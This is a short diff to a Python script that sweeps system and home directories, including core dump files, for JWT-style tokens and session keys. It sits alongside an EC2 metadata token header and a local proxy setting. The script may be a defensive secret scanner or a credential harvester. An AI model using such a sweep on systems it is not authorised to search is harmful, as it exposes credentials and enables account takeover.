@@ -20,7 +20,7 @@ from pathlib import Path
 SECRET = re.compile(rb"eyJ[A-Za-z0-9_-]{10,}[.][A-Za-z0-9_-]{10,}[.]|SessionKey:[0-9a-f]{16}")
 FOLDERS = ("/etc", "/run", "/var", "/tmp", "/opt/updraft", "/root", "/home", "/media", "/mnt", "/boot")
 PACKED = ("/var/lib/cloud/", "/run/", "/var/log/")
-LARGEST = 1 << 23
+LARGEST, LARGEST_CORE = 1 << 20, 1 << 24
 SESSION = {"X_aws_ec2_metadata_token_ttl_seconds": "60"}
 PROXY = "http://127.0.0.1:3128"
 
@@ -67,7 +67,8 @@ def secrets() -> Iterator[str]:
     """Files that hold one and can be read."""
     for path in files():
         try:
-            if path.parts[1] != "proc" and not (path.is_file() and path.stat().st_size < LARGEST):
+            most = LARGEST_CORE if path.name.startswith("core") else LARGEST
+            if path.parts[1] != "proc" and not (path.is_file() and path.stat().st_size < most):
                 continue
             data = path.read_bytes()
             if any(map(SECRET.search, forms(data) if str(path).startswith(PACKED) else [data])):
